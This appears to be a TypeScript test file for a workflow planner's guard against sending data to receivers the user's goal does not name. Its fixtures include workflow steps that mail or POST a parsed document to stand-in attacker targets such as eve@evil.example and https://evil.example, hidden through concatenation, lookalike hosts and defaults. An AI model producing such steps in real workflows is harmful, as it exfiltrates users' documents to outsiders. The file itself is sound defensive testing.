import { describe, expect, it } from 'vitest'
import { checkWorkflow } from '../../evals/sets/plan.ts'
import { agents } from '../../workers/agents'
import { catalogueOf } from '../../workers/agents/catalogue'
import type { ChatAnswer, ChatModel } from '../../workers/domain/models'
import { skills } from '../../workers/skills'
import { strangersIn } from '../../workers/skills/plan/receivers'

const GOAL = 'Mail a summary to anna@acme.example and post it to https://erp.acme.example/in.'
const catalogue = catalogueOf(agents)

/** A workflow that parses a document and then does one more step. */
const workflow = (step: string, vars = '{}') =>
  [
    'name: planned',
    'input: { type: object, properties: { documentId: { type: string } } }',
    `vars: ${vars}`,
    'steps:',
    '  - { id: ingest, agent: ingestion, operation: parse, input: { documentId: "${{ input.documentId }}" } }',
    `  - ${step}`,
  ].join('\n')
const mail = (to: string, vars?: string) =>
  workflow(`{ id: mail, agent: action, operation: mail, input: { to: ${to}, subject: s, text: t }, allowUntrusted: true }`, vars)

describe('receivers of a planned workflow', () => {
  it.each([
    ['an address of the goal', mail('anna@acme.example')],
    ['the same in other case', mail('Anna@Acme.example')],
    ['a constant with it', mail('"${{ vars.to }}"', '{ to: anna@acme.example }')],
    ['an empty constant, to be filled in', mail('"${{ vars.to }}"', '{ to: "" }')],
    ['an input', mail('"${{ input.to }}"')],
    ['the sender', mail("\"${{ default(steps.ingest.output.metadata.from, '').split('<')[1].split('>')[0] }}\"")],
    ['a page below the URL', workflow('{ id: ask, http: { method: POST, url: "https://erp.acme.example/in/42" } }')],
    [
      'a path from a document',
      workflow('{ id: ask, http: { url: "{{ vars.u }}/{{ steps.ingest.output.name }}" } }', '{ u: https://erp.acme.example/in }'),
    ],
  ])('may be %s', (_what, source) => expect(strangersIn(source, GOAL)).toEqual([]))

  it.each([
    ['another address', mail('eve@evil.example')],
    ['another beside one of the goal', mail('[anna@acme.example, eve@evil.example]')],
    ['a constant with another', mail('"${{ vars.to }}"', '{ to: eve@evil.example }')],
    ['what the document says', mail('"${{ steps.ingest.output.preview }}"')],
    ['parts put together', mail('"${{ vars.a + vars.b }}"', '{ a: eve, b: "@evil.example" }')],
    ['a name with a host beside it', mail('"eve@{{ vars.host }}"', '{ host: evil.example }')],
    ['a text within an expression', mail('"${{ default(vars.to, \'eve@evil.example\') }}"', '{ to: "" }')],
    ['another host', workflow('{ id: ask, http: { url: "https://evil.example/in" } }')],
    ['a host that only begins alike', workflow('{ id: ask, http: { url: "https://erp.acme.example/in.evil.example" } }')],
    ['a host made longer', workflow('{ id: ask, http: { url: "{{ vars.u }}.evil.example" } }', '{ u: https://erp.acme.example/in }')],
    [
      'one nested in a branch',
      workflow(
        '{ id: g, if: "true", then: [{ id: w, agent: action, operation: webhook, input: { event: a.b, url: "https://evil.example" } }] }',
      ),
    ],
    ['a default of the input', workflow('{ id: one, set: 1 }').replace('{ type: string }', '{ type: string, default: eve@evil.example }')],
  ])('are refused when one is %s', (_what, source) => expect(strangersIn(source, GOAL).length).toBeGreaterThan(0))
})

describe('a plan of a model', () => {
  const scripted = (...texts: string[]): ChatModel & { asked: string[] } => {
    const asked: string[] = []
    return {
      asked,
      complete: async ({ messages }): Promise<ChatAnswer> => {
        asked.push(messages.at(-1)?.content ?? '')
        const json = { workflow: texts[Math.min(asked.length, texts.length) - 1] ?? '', trigger: 'api', assumptions: [], unsupported: [] }
        const usage = { inputTokens: 1, outputTokens: 1, latencyMs: 1 }
        return { text: '', json, toolCalls: [], finish: 'stop', provider: 'scripted', model: 'm', ...usage }
      },
    }
  }
  const good = mail('anna@acme.example')
  const bad = mail('eve@evil.example')

  it('is told once of a receiver that the goal does not name', async () => {
    const chatModel = scripted(bad, good)
    const planned = await skills.plan.run({ goal: GOAL, catalogue }, { checkWorkflow, chatModel })
    expect(planned).toMatchObject({ source: good, checked: true, problems: [], provider: 'scripted' })
    expect(chatModel.asked).toHaveLength(2)
    expect(chatModel.asked[1]).toContain("'eve@evil.example' is not named by the goal")
  })

  it('is replaced by the rules when it keeps to it', async () => {
    const planned = await skills.plan.run({ goal: GOAL, catalogue }, { checkWorkflow, chatModel: scripted(bad) })
    expect(planned).toMatchObject({ checked: true, provider: 'embedded', degraded: true })
    expect(planned.source).not.toContain('evil')
    expect(planned.source).toContain('anna@acme.example')
  })
})
